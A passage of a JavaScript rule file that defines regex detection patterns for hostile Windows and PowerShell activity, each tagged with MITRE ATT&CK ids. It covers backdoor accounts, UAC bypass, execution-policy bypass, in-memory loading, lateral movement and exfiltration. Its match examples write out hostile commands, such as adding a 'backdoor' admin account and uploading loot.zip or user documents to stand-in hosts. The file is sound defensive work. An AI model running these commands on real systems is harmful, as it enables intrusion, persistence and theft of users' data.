      { re: /\b(?:Add-Content|Set-Content|Out-File)\b.*\$profile\b|\b(?:assoc|ftype)\s+\.?\w+=|\bappcmd(?:\.exe)?\s+install\s+module\b|\bNew-WebGlobalModule\b|\bInstall-TransportAgent\b|\bsdbinst(?:\.exe)?\b|\\apppatch\\+Custom\\|Active Setup\\+Installed Components|\\Services\\+NTDS\b.*LsaDbExtPt/i },
    ],
  }),
  idiomRule({
    id: 'windows-account-admin',
    name: 'Windows account created or made admin',
    category: 'privilege',
    action: 'block',
    attack: 'T1136.001',
    description: 'A local or domain account created, enabled or added to an administrative group (net user /add, net localgroup administrators … /add, New-LocalUser, Add-LocalGroupMember, New-ADUser, Add-ADGroupMember, dsadd), or a UAC bypass through an auto-elevating binary (fodhelper, eventvwr, sdclt, computerdefaults with a hijacked shell key).',
    help: 'Gives someone a lasting way in with administrative rights.',
    examples: {
      match: ['net user backdoor P@ss1 /add', 'net localgroup administrators backdoor /add', 'Add-LocalGroupMember -Group Administrators -Member x'],
      not_match: ['net user', 'net localgroup administrators', 'Get-LocalUser'],
    },
    idioms: [
      { re: /\bnet1?(?:\.exe)?\s+user\b.*\/(?:add|active:yes)\b/i },
      { re: /\bnet1?(?:\.exe)?\s+(?:localgroup|group)\b.*\/add\b/i },
      { re: /\b(?:New-LocalUser|Add-LocalGroupMember|New-ADUser|Add-ADGroupMember|Enable-LocalUser|Enable-ADAccount|Set-ADAccountPassword|Add-MailboxPermission|Add-AzureADDirectoryRoleMember|New-AzureADUser|Add-MsolRoleMember|New-AzRoleAssignment)\b/i },
      { re: /\bdsadd(?:\.exe)?\s+user\b/i },
      { re: /\b(?:fodhelper|eventvwr|sdclt|computerdefaults|slui|wsreset|changepk)(?:\.exe)?\b/i, names: ['fodhelper', 'eventvwr', 'sdclt', 'computerdefaults', 'slui', 'wsreset', 'changepk', 'start-process', 'start', 'cmd'] },
    ],
  }),
  idiomRule({
    id: 'powershell-policy-bypass',
    name: 'PowerShell started to evade its own controls',
    category: 'execution',
    action: 'record',
    attack: 'T1059.001',
    description: 'PowerShell run with the execution policy bypassed (-ExecutionPolicy/-ep Bypass or Unrestricted, Set-ExecutionPolicy Bypass), with its command hidden in base64 (-EncodedCommand/-enc/-ec), or in a hidden window (-WindowStyle Hidden).',
    help: 'These switches exist to run scripts the host policy would stop, and to keep the command line and window from view. Decode or read what is run.',
    examples: {
      match: ['powershell.exe -ep bypass -File C:\\Users\\Public\\a.ps1', 'powershell -NoP -enc SQBFAFgAIAAoAGcAYwAgAHgAKQA=', 'Start-Process powershell.exe -WindowStyle Hidden -ArgumentList x.ps1'],
      not_match: ['powershell -NoProfile -Command Get-ChildItem', 'Get-ExecutionPolicy -List', 'Set-ExecutionPolicy RemoteSigned -Scope CurrentUser'],
    },
    idioms: [
      { re: /\b(?:powershell|pwsh)(?:\.exe)?\b[^|;&\n]*\s[-/](?:ep|ex|exe|exec|executionpolicy)\s+["']?(?:Bypass|Unrestricted)\b/i },
      { re: /\b(?:powershell|pwsh)(?:\.exe)?\b[^|;&\n]*\s[-/](?:e|ec|en|enc|enco|encodedcommand)\s+["']?[A-Za-z0-9+/]{8,}={0,2}/i },
      // the encoded command built in a variable first (`-EncodedCommand $enc`)
      { re: /\b(?:powershell|pwsh)(?:\.exe)?\b[^|;&\n]*\s[-/](?:e|ec|en|enc|enco|encodedcommand)\s+["']?\$\w+/i },
      { re: /\b(?:powershell|pwsh)(?:\.exe)?\b[^|;&\n]*\s[-/](?:w|win|window|windowstyle)\s+["']?hidden\b/i },
      { re: /\bSet-ExecutionPolicy\b[^|;&\n]*\b(?:Bypass|Unrestricted)\b/i },
    ],
  }),
  idiomRule({
    id: 'windows-in-memory-exec',
    name: 'Code loaded and run in memory',
    category: 'execution',
    action: 'record',
    attack: 'T1620',
    description: 'A .NET assembly loaded from bytes or a path at run time ([Reflection.Assembly]::Load/LoadFile/LoadFrom), Win32 memory and thread functions imported into PowerShell (Add-Type with DllImport of VirtualAlloc, WriteProcessMemory, CreateRemoteThread, QueueUserAPC), or a COM object made to run a program (MMC20.Application ExecuteShellCommand, ShellWindows/ShellBrowserWindow ShellExecute, Excel RegisterXLL/DDEInitiate).',
    help: 'Runs code that never touches the disk as a program, past allow-lists and file scanning. Find where the bytes come from.',
    examples: {
      match: ['$a = [System.Reflection.Assembly]::Load($bytes)', "[activator]::CreateInstance([type]::GetTypeFromProgID('MMC20.Application','x.example')).Document.ActiveView.ExecuteShellCommand('cmd.exe',$null,'/c calc','7')", 'Add-Type -MemberDefinition \'[DllImport("kernel32.dll")] public static extern IntPtr VirtualAlloc(IntPtr a, uint b, uint c, uint d);\' -Name K -Namespace W'],
      not_match: ['Add-Type -AssemblyName System.Windows.Forms', '[System.Reflection.Assembly]::GetExecutingAssembly().Location', "Add-Type -TypeDefinition 'public class A { public static int B() { return 1; } }'"],
    },
    idioms: [
      { re: /\[(?:System\.)?Reflection\.Assembly\]::(?:Load|LoadFile|LoadFrom|UnsafeLoadFrom|LoadWithPartialName)\s*\(\s*[^)\s]/i },
      { re: /\bDllImport\b[\s\S]*\b(?:VirtualAlloc(?:Ex)?|VirtualProtect(?:Ex)?|WriteProcessMemory|CreateRemoteThread(?:Ex)?|NtCreateThreadEx|QueueUserAPC|RtlCreateUserThread|SetThreadContext|NtUnmapViewOfSection|CreateThread)\b/i },
      { re: /GetTypeFrom(?:ProgID|CLSID)\s*\([\s\S]*\.(?:ExecuteShellCommand|ShellExecute|RegisterXLL|DDEInitiate|ExecuteExcel4Macro)\s*\(/i },
      { re: /\.(?:ExecuteShellCommand|RegisterXLL|DDEInitiate)\s*\(/i },
    ],
  }),
  idiomRule({
    id: 'windows-lateral-movement',
    name: 'Command or session on another Windows host',
    category: 'execution',
    action: 'record',
    attack: 'T1021',
    description: "Reaching into another Windows host: its administrative shares (\\\\HOST\\C$, ADMIN$, a session to IPC$), PowerShell remoting (Enable-PSRemoting, Invoke-Command -ComputerName, Enter-PSSession, New-PSSession), winrs -r:, PsExec \\\\HOST, WMI or DCOM with -ComputerName, stored RDP credentials (cmdkey /generic:TERMSRV).",
    help: 'Spreads from this host to others with the credentials at hand. Check which host and why the task needs it.',
    examples: {
      match: ['copy .\\a.exe \\\\x.example\\C$\\Windows\\Temp\\a.exe', 'Invoke-Command -ComputerName srv01 -ScriptBlock { whoami }', 'winrs -r:srv01 cmd /c whoami'],
      not_match: ['Invoke-Command -ScriptBlock { Get-Date }', 'dir \\\\srv01\\c$', 'Get-PSSession'],
    },
    idioms: [
      // something copied to, moved to or started from an administrative share (listing one is discovery)
      { re: /\b(?:copy|xcopy|robocopy|move|Copy-Item|Move-Item|cp|mv|New-PSDrive|New-SmbMapping|sc|schtasks|start|Start-Process|type|Set-Content|Out-File)\b[^|;&\n]*\\\\[\w.-]+\\(?:[A-Za-z]\$|ADMIN\$|IPC\$)/i },
      // a session opened to an administrative share or to IPC$, the share a session to the host's
      // services (SCM, registry, task scheduler) goes through: `net use [X:] \\HOST\IPC$ [password]
      // [/user:U]`, not `/delete` (net use, https://learn.microsoft.com/previous-versions/windows/it-pro/windows-server-2012-r2-and-2012/gg651155(v=ws.11))
      { re: /\bnet1?(?:\.exe)?\s+use\s+(?:[A-Za-z*]:?\s+)?["']?\\\\[\w.-]+\\(?:[A-Za-z]\$|ADMIN\$|IPC\$)["']?(?:\s+(?:"[^"]*"|[^\s/"]\S*|\/(?:user|u|persistent|savecred|smartcard|requireintegrity|requireprivacy)\b\S*))*\s*$/i },
      { re: /\bEnable-PSRemoting\b|\b(?:Enter-PSSession|New-PSSession)\b[^|;&\n]*-(?:ComputerName|HostName|Cn)\b|\bInvoke-Command\b[^|;&\n]*-(?:ComputerName|Session|HostName|Cn)\b/i },
      { re: /\bwinrs(?:\.exe)?\b[^|;&\n]*[-/]r(?:emote)?:\S/i },
      { re: /\bpsexec(?:64)?(?:\.exe)?\b[^|;&\n]*\s\\\\[\w.-]+/i },
      { re: /\b(?:Invoke-WmiMethod|Invoke-CimMethod|Get-WmiObject|New-CimSession)\b[^|;&\n]*-ComputerName\b[^|;&\n]*(?:Win32_Process|Create)\b/i },
      { re: /\bcmdkey(?:\.exe)?\b[^|;&\n]*\/(?:generic|add):["']?TERMSRV\//i },
      { re: /\bNew-(?:SmbMapping|PSDrive)\b[^|;&\n]*\\\\[\w.-]+\\/i },
    ],
  }),
  idiomRule({
    id: 'windows-share-write',
    name: 'Files written to another host\'s share',
    category: 'exfiltration',
    action: 'record',
    attack: 'T1570',
    description: 'Files copied, moved or written to a share on another host (a \\\\HOST\\SHARE destination): copy, xcopy, move, robocopy, Copy-Item/Move-Item -Destination, Set-Content/Add-Content/Out-File/Export-Csv/Compress-Archive to a UNC path, a redirect into one. Administrative shares (C$, ADMIN$, IPC$) are windows-lateral-movement.',
    help: 'Moves data off this host over SMB, or stages a tool on another one. Check what is copied and whose share it is.',
    examples: {
      match: ['robocopy C:\\Users\\bob\\Documents \\\\x.example\\drop /E', 'Copy-Item C:\\Users\\bob\\notes.kdbx -Destination \\\\x.example\\share\\', 'xcopy /s /y C:\\Users\\bob\\Desktop \\\\10.0.0.9\\pub\\'],
      not_match: ['robocopy \\\\fileserver\\builds C:\\builds /MIR', 'copy \\\\fileserver\\tools\\setup.txt .', 'net use Z: \\\\fileserver\\projects'],
    },
    // Lateral Tool Transfer, https://attack.mitre.org/techniques/T1570/ (files moved between hosts over
    // SMB shares); robocopy(1) and xcopy(1) take SOURCE DESTINATION, options anywhere
    // (https://learn.microsoft.com/windows-server/administration/windows-commands/robocopy). The share
    // name has no `$`, so the administrative shares stay windows-lateral-movement's.
    idioms: [
      { re: /\b(?:copy|xcopy|move|robocopy)(?:\.exe)?\s+(?:\/\S+\s+)*(?:"[^"]*"|[^\s"\/][^\s"]*)\s+(?:\/\S+\s+)*["']?\\\\[\w.-]+\\[\w.-]+(?:[\\\s"']|$)/i },
      { re: /\b(?:Copy-Item|Move-Item|cpi|mi|Compress-Archive)\b[^|;&\n]*\s-Destination(?:Path)?\s+["']?\\\\[\w.-]+\\[\w.-]+(?:[\\\s"']|$)/i },
      { re: /\b(?:Copy-Item|Move-Item)\s+(?:-Path\s+)?(?:"[^"]*"|'[^']*'|[^\s"'-][^\s"']*)\s+["']?\\\\[\w.-]+\\[\w.-]+(?:[\\\s"']|$)/i },
      { re: /\b(?:Set-Content|Add-Content|Out-File|Export-Csv|Export-Clixml)\b(?:[^|;&\n]*\s-(?:Path|FilePath|LiteralPath))?\s+["']?\\\\[\w.-]+\\[\w.-]+(?:[\\\s"']|$)/i },
      { re: /[^\s<>|&]\s*>{1,2}\s*["']?\\\\[\w.-]+\\[\w.-]+(?:[\\\s"']|$)/ },
    ],
  }),
  withLine(filePosted, idiomRule({
    id: 'powershell-exfil-channel',
    name: 'Data sent out by PowerShell',
    category: 'exfiltration',
    action: 'record',
    attack: 'T1048',
    description: 'PowerShell sending data out: WebClient UploadFile/UploadString/UploadData, a BITS upload job (Start-BitsTransfer -TransferType Upload, bitsadmin /upload), Invoke-WebRequest/Invoke-RestMethod -InFile, a file read into a variable and posted as the -Body, file bytes sent in ICMP echo requests (Net.NetworkInformation.Ping Send), DNS names built from data (Resolve-DnsName with a variable or substitution label), or a TCP client writing to a stream.',
    help: 'Moves files or collected data off the host. Check what is read and where it goes.',
    examples: {
      match: ["(New-Object Net.WebClient).UploadFile('https://x.example/u', 'C:\\Users\\Public\\loot.zip')", "$c = Get-Content C:\\Users\\Public\\notes.txt; Invoke-WebRequest -Uri https://x.example/u -Method POST -Body $c", "Resolve-DnsName -Type TXT \"$($chunk).x.example\""],
      not_match: ["Invoke-WebRequest -Uri https://api.example.com/v1 -Method POST -Body '{\"a\":1}'", 'Resolve-DnsName example.com', '(New-Object Net.WebClient).DownloadString("https://api.example.com/v1")'],
    },
    idioms: [
      { re: /\.Upload(?:File|String|Data|Values)(?:Async|TaskAsync)?\s*\(/i },
      // a BITS job that uploads (Start-BitsTransfer -TransferType Upload; bitsadmin /transfer … /upload)
      { re: /\bStart-BitsTransfer\b[^|;&\n]*-TransferType\s+["']?Upload\b|\bbitsadmin(?:\.exe)?\b[^|;&\n]*\/upload\b/i },
      { re: /\b(?:iwr|irm|Invoke-WebRequest|Invoke-RestMethod)\b[^|;&\n]*\s-InFile\s+\S/i },
      { re: /NetworkInformation\.Ping\b[\s\S]*\.Send\s*\([^)]*\$/i },
      { re: /\bResolve-DnsName\b[^|;&\n]*["']?\$(?:\(|\w+)[^\s"']*\.[\w-]+\.[\w-]+/i },
      { re: /Net\.Sockets\.TcpClient\b[\s\S]*\.GetStream\(\)[\s\S]*\.Write\s*\(/i },
    ],
  })),
];
